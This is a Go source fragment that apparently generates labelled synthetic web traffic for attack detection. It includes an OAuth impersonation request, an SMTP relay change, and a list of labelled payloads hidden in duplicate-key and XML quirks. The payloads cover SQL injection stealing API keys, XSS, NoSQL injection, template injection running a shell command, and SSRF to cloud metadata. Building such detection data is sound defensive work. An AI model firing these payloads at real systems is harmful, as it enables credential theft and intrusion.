	return h9X{u: u, method: "GET", url: h9Sign + "/v2/oauth/authorize?response_type=code&client_id=cli_" + h9Hex(g.r, 4) + "&redirect_uri=" + h9Q(redir) + "&scope=" + h9Q("signature impersonation") + "&state=" + h9Hex(g.r, 8), status: 302, rhdr: [][2]string{{"Location", redir + "?code=" + h9ID(g.r, "", 32)}}}
}

func (g *h9Gen) bMailRelay() h9X {
	u := g.mail[2]
	host := h9Pick(g.r, []string{"smtp.sendgrid.net", "email-smtp.eu-west-1.amazonaws.com", "smtp.office365.com", "mail.kettle-co.example"})
	return h9X{u: u, method: "PUT", url: h9Mail + "/v3/account/smtp_relay", body: `{"relay":{"host":"` + host + `","port":587,"tls":true,"username":"apikey"}}`, status: 200, rbody: `{"updated":true,"relay":{"host":"` + host + `","verified":false}}`}
}

// JSON and XML quirks: duplicate keys (the attack value last, as most parsers keep it), escaped slashes, nesting.
var h9QuirkPayloads = []struct {
	p      h9P
	labels []string
}{
	{h9P{"b:query", `{"filter":{"name":"Depot","name":"Depot' UNION SELECT api_key,2 FROM api_keys--"}}`, false}, []string{h9SQLi}},
	{h9P{"b:seg", `{"conditions":{"merge_fields.COMPANY":{"$eq":"x\u0027 OR 1=1--"}}}`, false}, []string{h9SQLi}},
	{h9P{"b:seg", `{"name":"<script>alert(1)<\/script>","conditions":{}}`, false}, []string{h9XSS}},
	{h9P{"b:query", `{"filter":{"tags":[["depot",["<img src=x onerror=alert(1)>"]]]}}`, false}, []string{h9XSS}},
	{h9P{"b:seg", `{"conditions":[[{"password":{"$ne":""}}]]}`, false}, []string{h9Other}},
	{h9P{"b:query", `{"filter":{"name":{"$where":"sleep(100)||true"}}}`, false}, []string{h9Other}},
	{h9P{"b:query", `{"template":"{{ cycler.__init__.__globals__.os.popen(\"id\").read() }}","filter":{}}`, false}, []string{h9Other}},
	{h9P{"x:sign", `<?xml version="1.0"?><envelope><subject>Lease</subject><subject>x&apos;;SELECT pg_sleep(5)--</subject></envelope>`, false}, []string{h9SQLi}},
	{h9P{"x:sign", `<?xml version="1.0"?><envelope><callback url="http://[::ffff:a9fe:a9fe]/latest/meta-data/"/><subject>Lease</subject></envelope>`, false}, []string{h9SSRF}},
	{h9P{"b:query", `{"source_url":"https://www.adeyemi-law.example/a.html","source_url":"http://0x7f.1/admin"}`, false}, []string{h9SSRF}},
}
